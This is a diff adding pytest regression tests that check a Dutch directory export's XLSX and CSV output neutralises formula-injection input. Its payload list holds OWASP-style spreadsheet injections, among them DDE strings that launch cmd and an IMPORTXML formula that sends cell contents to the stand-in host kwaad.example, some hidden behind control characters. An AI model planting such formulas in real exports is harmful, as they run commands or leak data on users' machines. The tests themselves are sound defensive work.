@@ -125,6 +125,50 @@ def test_control_characters_in_a_name_do_not_break_the_xlsx(client):
     assert neutralise("regel 1\tkolom\nregel 2") == "regel 1\tkolom\nregel 2"
 
 
+# The OWASP CSV-injection payloads, and the same behind what a spreadsheet drops or skips:
+# a control character (dropped on export) and leading white space.
+OWASP_PAYLOADS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("https://kwaad.example","klik")',
+    "=cmd|' /C notepad'!'A1'",
+    '=IMPORTXML(CONCAT("https://kwaad.example/?v=", A1), "//a")',
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+]
+HIDDEN_PREFIXES = ["", "\x01", "\x1f\x00", " ", "   ", "\x0b ", "\n"]
+
+
+@pytest.mark.parametrize("prefix", HIDDEN_PREFIXES)
+@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
+def test_no_payload_survives_as_a_formula_whatever_precedes_it(payload, prefix):
+    cleaned = neutralise(prefix + payload)
+    assert cleaned.startswith("'"), repr(cleaned)
+    assert not any(ord(ch) < 0x20 and ch not in "\t\n\r" for ch in cleaned)
+
+
+@pytest.mark.parametrize("hidden", ["\x01", " ", "\x1f "])
+def test_a_formula_behind_a_control_character_or_space_is_no_formula_cell(hidden):
+    """The finding: "\x01=HYPERLINK(…)" became a live formula cell once \x01 was dropped."""
+    steunpunt = Steunpunt.objects.filter(gepubliceerd=True, status="actief").first()
+    steunpunt.naam = hidden + '=HYPERLINK("https://kwaad.example","klik")'
+    steunpunt.save()
+    lijst = build_dekkingslijst(basis_url=BASE)
+
+    sheet = read_xlsx(export_xlsx(lijst))
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    hits = [cell for cell in cells if "kwaad" in str(cell.value)]
+    assert hits
+    for cell in hits:
+        assert cell.data_type == "s" and cell.value.startswith("'"), cell.value
+    assert not [cell for cell in cells if cell.data_type == "f"]
+    csv_hits = [c for row in read_csv(export_csv(lijst)) for c in row if "kwaad" in c]
+    assert csv_hits and all(cell.startswith("'") for cell in csv_hits)
+
+
 def test_neutralise_leaves_safe_values_alone():
     assert neutralise("Steunpunt Utrecht") == "Steunpunt Utrecht"
     assert neutralise("0800-1234") == "0800-1234"
